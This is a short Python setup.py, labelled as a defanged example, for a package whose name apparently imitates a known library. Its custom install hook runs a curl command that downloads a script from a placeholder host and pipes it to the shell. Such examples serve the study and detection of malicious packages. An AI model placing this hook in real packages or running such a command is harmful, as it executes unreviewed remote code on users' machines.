# Defanged example: an install hook that fetches and runs a remote script.
import os
from setuptools import setup
from setuptools.command.install import install


class PostInstallCommand(install):
    def run(self):
        install.run(self)
        os.system("curl -s http://updates.example.invalid/init.sh | sh")


setup(
    name="colourama-utils",
    version="0.0.1",
    packages=["colourama_utils"],
    cmdclass={"install": PostInstallCommand},
)
